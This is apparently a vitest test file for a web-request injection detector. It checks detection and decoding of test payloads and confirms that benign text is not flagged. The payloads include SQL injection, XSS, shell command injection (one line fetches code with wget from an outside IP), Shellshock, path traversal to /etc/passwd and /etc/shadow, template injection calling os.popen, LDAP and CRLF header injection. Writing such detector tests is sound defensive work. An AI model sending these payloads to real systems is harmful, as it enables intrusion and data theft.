import { describe, expect, it } from 'vitest'
import { createInnateDetector } from '../../../node/innate/index.js'
import type { InnateEncoding, InnateGrammar } from '../../../node/innate/index.js'

const d = createInnateDetector()
const inspect = (v: string, encoding: InnateEncoding = 'none') => d.inspect(v, { location: 'query', name: 'q', encoding }).findings

/** [value, grammar, strength, context, breaking token, offset] */
const ATTACKS: Array<[string, InnateGrammar, 'weak' | 'strong', string, string, number]> = [
  ["x' OR '1'='1", 'sql', 'strong', 'single-quoted string', "'", 1],
  ['12 UNION SELECT name, pass FROM users', 'sql', 'strong', 'numeric', 'UNION', 3],
  ['2AND 1=1', 'sql', 'strong', 'numeric', 'AND', 1],
  ["');waitfor delay '0:0:15';--", 'sql', 'strong', 'single-quoted string', "'", 0],
  ["'; DROP TABLE users; SELECT * FROM t WHERE a LIKE '%", 'sql', 'strong', 'single-quoted string', "'", 0],
  ['" or ""="', 'sql', 'strong', 'double-quoted string', '"', 0],
  ["a' AND (SELECT COUNT(*) FROM users) > 0 AND 'a'='a", 'sql', 'strong', 'single-quoted string', "'", 1],
  ['1) OR (1=1', 'sql', 'strong', 'numeric', ')', 1],
  ["admin'--", 'sql', 'weak', 'single-quoted string', "'", 5],
  ['<script>alert(1)</script>', 'html', 'strong', 'text', '<script', 0],
  ['bob@<SCRipt>alert(1)</scrIPT>.example.org', 'html', 'strong', 'text', '<SCRipt', 4],
  ['<img src=x onerror=alert(1)>', 'html', 'strong', 'text', '<img', 0],
  ['x" style="background:url(javascript:alert(1))', 'html', 'strong', 'double-quoted attribute', '"', 1],
  ["x'><svg onload=alert(1)>", 'html', 'strong', 'text', '<svg', 3],
  ["x' autofocus onfocus='alert(1)", 'html', 'strong', 'single-quoted attribute', "'", 1],
  ['x onmouseover=alert(1)', 'html', 'strong', 'unquoted attribute', ' onmouseover', 1],
  [' java\tscript:alert(1)', 'html', 'strong', 'URL attribute', 'java\tscript:', 1],
  ['<!--#exec cmd="id" -->', 'html', 'strong', 'text (server-side include)', '<!--#exec', 0],
  ['<b>bold</b>', 'html', 'weak', 'text', '<b', 0],
  ["';alert(1)//", 'javascript', 'strong', 'single-quoted string', "'", 0],
  ['"+alert(document.cookie)+"', 'javascript', 'strong', 'double-quoted string', '"', 0],
  ['x; cat /etc/passwd', 'shell', 'strong', 'argument', ';', 1],
  ['$(wget http://198.51.100.7/x)', 'shell', 'strong', 'argument', '$(', 0],
  ['9 | id', 'shell', 'strong', 'argument', '|', 2],
  ['() { :; }; /bin/sh -c id', 'shell', 'strong', 'environment variable', '() {', 0],
  ['../../../etc/passwd', 'path', 'strong', 'relative file name', '..', 0],
  ['../img/a.png', 'path', 'weak', 'relative file name', '..', 0],
  ['/etc/shadow', 'path', 'strong', 'file name', '/', 0],
  ['x.php\0.jpg', 'path', 'strong', 'file name', '\\0', 5],
  ["{{config.__class__.__init__.__globals__['os'].popen('id')}}", 'template', 'strong', '{{…}}', '{{', 0],
  ['${7*7}', 'template', 'weak', '${…}', '${', 0],
  ['*)(uid=*))(|(uid=*', 'ldap', 'strong', 'filter value', ')', 1],
  ['admin)(&)', 'ldap', 'strong', 'filter value', ')', 5],
  ['en\r\nSet-Cookie: a=b', 'http-header', 'strong', 'header value', '\\r\\n', 2]
]

describe('innate grammars: attacks', () => {
  for (const [value, grammar, strength, context, token, offset] of ATTACKS) {
    it(`${grammar}: ${JSON.stringify(value)}`, () => {
      const f = inspect(value).find((x) => x.grammar === grammar)
      expect(f, JSON.stringify(inspect(value))).toBeDefined()
      expect(f).toMatchObject({ strength, context, token, offset, location: 'query', name: 'q', decodings: [] })
      expect(f!.span.startsWith(value.slice(offset, offset + 1) === '\0' ? '\0' : value.slice(offset, offset + 1))).toBe(true)
      expect(f!.explanation).toContain(grammar)
      expect(f!.explanation).toContain(`offset ${offset}`)
    })
  }
})

const BENIGN = ["O'Brien", "L'Hospitalet", "Jean d'Or", "Carrer de l'Àngel 12, 3º 2ª", 'Tom & Jerry', 'fun & free', 'B&W', 'AT&T, B&Q, H&M',
  "It's 5 o'clock", 'He said "no", then left', '555-1234', '2024-01-05', '12.50', '1 + 1 = 2', 'cats and dogs', 'see (a) and (b)', 'Q&A; FAQ',
  'Price: $12.50 (incl. 20% VAT)', "Don't forget: meeting @ 10am -- bring slides", 'rock & roll', 'ana@example.org', 'C:\\Users\\Ana\\report.docx',
  'https://example.org/search?q=tea&page=2', '{"id": 12, "tags": ["a", "b"]}', 'Hello {name}', '${price}', '{{name}}', 'Dear team,\r\nthanks: Ana',
  'line one\nline two', 'p@ss;w0rd!', "it'sme#1", 'x$y%z^', "'Ondara", 'Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko)',
  'cat lovers', 'sleep well', 'tail', "I'd like 2 or 3 of these", 'SELECT your size from the menu', 'Drop me a line or call me', '5 or 6 order', "5' - 3"]

describe('innate grammars: text that only looks like syntax', () => {
  for (const value of BENIGN) {
    it(JSON.stringify(value), () => {
      expect(inspect(value)).toEqual([])
    })
  }
})

describe('innate decodings', () => {
  it('names each decoding step a finding needed', () => {
    const cases: Array<[string, InnateEncoding, string[]]> = [
      ['%27+OR+%271%27%3D%271', 'form', ['url-decode', 'plus-as-space']],
      ['%2527%2520OR%25201%253D1--', 'form', ['url-decode', 'double-url-decode']],
      ['&lt;script&gt;alert(1)&lt;/script&gt;', 'none', ['html-entity-decode']],
      ['%u003cscript%u003ealert(1)', 'form', ['percent-u-decode']],
      ['%c0%ae%c0%ae/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd', 'url', ['url-decode', 'overlong-utf8']],
      ['&#106;avascript:alert(1)', 'none', ['html-entity-decode']]
    ]
    for (const [raw, encoding, steps] of cases) {
      const fs = d.inspect(raw, { location: 'query', name: 'q', encoding }).findings
      expect(fs.length, raw).toBeGreaterThan(0)
      expect(fs[0].decodings, raw).toEqual(steps)
      for (const s of steps) expect(fs[0].explanation).toContain(s)
    }
  })

  it('reads a URL path with "+" literal and climbs above the root as strong', () => {
    const fs = d.inspect('/a/%2e%2e/%2e%2e/etc/passwd', { location: 'path', name: '', encoding: 'url' }).findings
    expect(fs[0]).toMatchObject({ grammar: 'path', context: 'URL path', strength: 'strong', decodings: ['url-decode'] })
    expect(d.inspect('/a/b/../c', { location: 'path', name: '', encoding: 'url' }).findings).toEqual([])
  })

  it('keeps the strongest finding of a grammar over the views (a weak one in the first, a strong one after decoding)', () => {
    const fs = d.inspect('<b>%253Cscript%253E', { location: 'query', name: 'q', encoding: 'form' }).findings.filter((f) => f.grammar === 'html')
    expect(fs).toHaveLength(1)
    expect(fs[0]).toMatchObject({ strength: 'strong', token: '<script', decodings: ['url-decode', 'double-url-decode'] })
  })
})

describe('inspectHttp', () => {
  it('reads the path, query and form body (form decoding), an opaque body, and the configured headers', () => {
    const r = d.inspectHttp({
      path: '/shop/%2e%2e/%2e%2e/x',
      query: 'id=1+UNION+SELECT+1&name=Ana',
      body: 'c=%3Cscript%3E',
      headers: { 'user-agent': '() { :; }; /bin/sh', referer: 'https://example.org/', cookie: "x' OR '1'='1" }
    })
    const where = r.findings.map((f) => `${f.location}:${f.name}:${f.grammar}`).sort()
    expect(where).toEqual(['body:c:html', 'header:user-agent:shell', 'path::path', 'query:id:sql'])
    expect(r.values).toBe(6)
    const json = d.inspectHttp({ path: '/api', query: '', body: '{"q": "<script>alert(1)</script>"}', headers: { 'content-type': 'application/json' } })
    expect(json.findings[0]).toMatchObject({ location: 'body', name: '(body)', grammar: 'html' })
  })

  it('leaves excluded values alone (all grammars, or some)', () => {
    const obs = { path: '/admin', query: "sql=x' OR '1'='1&page=<script>", body: '', headers: {} }
    expect(d.inspectHttp(obs, (_l, n) => n === 'sql').findings.map((f) => f.name)).toEqual(['page'])
    expect(d.inspectHttp(obs, (_l, n) => n === 'page' ? ['html'] : false).findings.map((f) => f.name)).toEqual(['sql'])
  })
})

describe('innate grammars: weak signals inside a value (issue 10 follow-up)', () => {
  /** [value as the application sees it, grammar, context, breaking token, offset] — all weak */
  const WEAK: Array<[string, string, string, string, number]> = [
    ['queso/etc/shadow', 'path', 'file name (inside the value)', '/', 5],
    ['vino tinto/etc/passwd', 'path', 'file name (inside the value)', '/', 10],
    ['2file:///etc/passwd', 'path', 'file name (inside the value)', '/', 8],
    ['report C:\\Windows\\win.ini', 'path', 'file name (inside the value)', '\\', 17],
    ['quesojavascript:alert(\'x\')', 'html', 'link in text', 'javascript:', 5],
    ['see [here](javascript:fetch(1))', 'html', 'link in text', 'javascript:', 11],
    ['x data:text/html;base64,PHNjcmlwdD4=', 'html', 'link in text', 'data:', 2],
    ['quesos1) UNION ALL SELECT NULL,NULL,version()#', 'sql', 'bare word', ')', 7],
    ['queso1; DROP TABLE orders--', 'sql', 'bare word', ';', 6]
  ]
  for (const [value, grammar, context, token, offset] of WEAK) {
    it(`${grammar}: ${JSON.stringify(value)}`, () => {
      const f = inspect(value).find((x) => x.grammar === grammar)
      expect(f, JSON.stringify(inspect(value))).toBeDefined()
      expect(f).toMatchObject({ strength: 'weak', context, token, offset })
    })
  }

  it('reads a run of three or more dots before a separator as a climb (a filter that strips ../ once makes one)', () => {
    expect(inspect('....//....//etc/passwd').find((f) => f.grammar === 'path')).toMatchObject({ strength: 'strong', context: 'relative file name', fingerprint: '../×2 etc/passwd' })
    expect(inspect('Loading.... please wait')).toEqual([])
    expect(inspect('wait... / ok')).toEqual([])
  })

  const TEXT = ['see /etc/hosts-guide for help', 'etc/passwd', 'books, etc/group discounts', 'my ~/.bashrc file', 'I like javascript: it is fun', 'JavaScript: The Good Parts (2008)',
    'javascript:The Good Parts', 'metadata:text/plain', 'Done; call me later', 'Tom; select your seat', 'European Union select committee', 'backup the db; then update',
    'plan b) or c', 'C:\\Users\\Ana\\Desktop\\list.txt', '/home/ana/documents/report.docx', 'src/main/app.js']
  for (const value of TEXT) {
    it(`text: ${JSON.stringify(value)}`, () => { expect(inspect(value)).toEqual([]) })
  }

  it('keeps a script URL at the start of a value strong only when code follows the scheme', () => {
    expect(inspect('javascript:alert(1)')[0]).toMatchObject({ grammar: 'html', context: 'URL attribute', strength: 'strong' })
    expect(inspect('javascript://%0aalert(1)', 'form')[0]).toMatchObject({ grammar: 'html', strength: 'strong' })
    expect(inspect("javascript:window['al'+'ert'](1)")[0]).toMatchObject({ grammar: 'html', strength: 'strong' })
  })
})
